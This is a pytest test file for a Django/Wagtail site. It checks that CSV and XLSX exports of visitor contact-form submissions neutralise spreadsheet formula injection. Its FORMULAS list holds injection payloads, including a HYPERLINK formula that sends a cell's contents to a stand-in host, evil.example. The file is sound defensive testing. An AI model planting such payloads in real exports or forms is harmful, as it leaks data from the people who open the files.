"""The export of messages, which anybody may have written."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from home.models import ContactSubmission
from tests.home.factories import ContactPageFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1, "Click")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


@pytest.fixture
def export(home, admin_client):
    """Store messages with these texts, and return the rows of their export."""
    contact = ContactPageFactory(parent=home)

    def export(file_format, *texts):
        for text in texts:
            ContactSubmission.objects.create(page=contact, form_data={"your_name": text}, accepted_wording=text)
        address = reverse("wagtailforms:list_submissions", args=[contact.pk])
        answer = admin_client.get(address, {"export": file_format})
        assert answer.status_code == 200
        return answer.getvalue()

    return export


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_a_visitor_is_text_in_a_csv_file_and_stays_as_it_was_in_the_database(export, text):
    (row,) = csv.DictReader(StringIO(export("csv", text).decode(), newline=""))

    assert row["Your name"] == row["Accepted wording"] == f"'{text}"
    assert ContactSubmission.objects.get().get_data()["your_name"] == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_a_visitor_is_text_in_an_xlsx_file(export, text):
    sheet = load_workbook(BytesIO(export("xlsx", text))).active

    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}


def test_other_texts_are_exported_as_they_were_written(export):
    (row,) = csv.DictReader(StringIO(export("csv", 'A "visitor", 1 = 1').decode(), newline=""))

    assert row["Your name"] == 'A "visitor", 1 = 1'
